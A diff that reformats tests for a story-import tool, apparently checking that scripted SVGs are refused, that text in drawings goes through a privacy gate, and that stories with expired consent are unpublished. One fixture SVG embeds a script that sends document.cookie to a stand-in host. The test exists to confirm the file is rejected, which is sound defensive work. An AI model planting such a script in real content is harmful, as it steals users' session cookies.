@@ -98,8 +98,10 @@ def test_a_photograph_with_a_face_is_refused_and_nothing_is_stored(stack, tmp_pa
 
 
 def test_a_scripted_svg_is_refused(stack, tmp_path):
-    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>A boat</title>'
-           b'<rect width="10" height="10"/><script>fetch("https://example.org/?c="+document.cookie)</script></svg>')
+    svg = (
+        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>A boat</title>'
+        b'<rect width="10" height="10"/><script>fetch("https://example.org/?c="+document.cookie)</script></svg>'
+    )
     path, story = story_file(tmp_path, cover=("boat.svg", svg))
     refused = ops("import", str(path))
     assert refused.returncode == 1
@@ -108,8 +110,7 @@ def test_a_scripted_svg_is_refused(stack, tmp_path):
 
 
 def test_text_in_a_drawing_goes_through_the_privacy_gate(stack, tmp_path):
-    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Her house</title>'
-           b'<text>Soi 11, 45/2 Moo 6</text></svg>')
+    svg = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Her house</title><text>Soi 11, 45/2 Moo 6</text></svg>'
     path, _ = story_file(tmp_path, cover=("house.svg", svg))
     refused = ops("import", str(path))
     assert refused.returncode == 1
@@ -197,8 +198,11 @@ def test_a_story_whose_consent_expired_yesterday_is_unpublished_by_the_daily_tim
         raw["cover"] = {"file": "x/cover.svg", "alt": "Drawing of a boat"}
         s = StoryDoc.model_validate(raw)
         store.upsert_story(s)
-        assets.upload(assets.story_image_path(s.id, "cover.svg"),
-                      b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>', "image/svg+xml")
+        assets.upload(
+            assets.story_image_path(s.id, "cover.svg"),
+            b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
+            "image/svg+xml",
+        )
         return s
 
     expired = published(yesterday.strftime("%Y-%m"))
